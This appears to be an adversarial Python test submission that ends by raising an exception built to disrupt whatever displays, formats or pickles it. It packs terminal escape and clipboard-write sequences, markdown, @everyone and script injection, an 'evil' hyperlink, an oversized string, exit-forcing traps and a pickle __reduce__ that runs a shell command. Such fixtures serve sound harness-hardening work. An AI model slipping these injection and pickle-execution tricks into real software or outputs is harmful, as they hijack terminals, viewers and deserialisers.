"""Ends by an exception whose name, message and ways of being shown or copied are all meant to do harm.

Handed in as a candidate would.
"""

import os
import sys
from typing import Any

HARM = (
    "\x1b[2J\x1b]0;title\x07\x1b]52;c;c3RvbGVu\x07\n```\n# heading\n@everyone <script>alert(1)</script>" + "x" * 10**6
)


class Shown(str):
    def __str__(self) -> str:
        return HARM

    def __format__(self, how: str) -> str:
        return HARM

    def __len__(self) -> int:
        return 3

    def __getitem__(self, where: Any) -> Any:
        return HARM


class Meta(type):
    def __getattribute__(cls, name: str) -> Any:
        raise RuntimeError(HARM)


class Hostile(BaseException, metaclass=Meta):
    def __str__(self) -> str:
        return Shown()

    def __repr__(self) -> str:
        raise KeyboardInterrupt

    def __reduce__(self) -> Any:
        return os.system, ("touch /tmp/opened",)

    def __getattribute__(self, name: str) -> Any:
        raise SystemExit(0)


sys.stdout.write("\x1b[31m\x9b2J\x1b]8;;http://evil\x07here\n")
raise Hostile
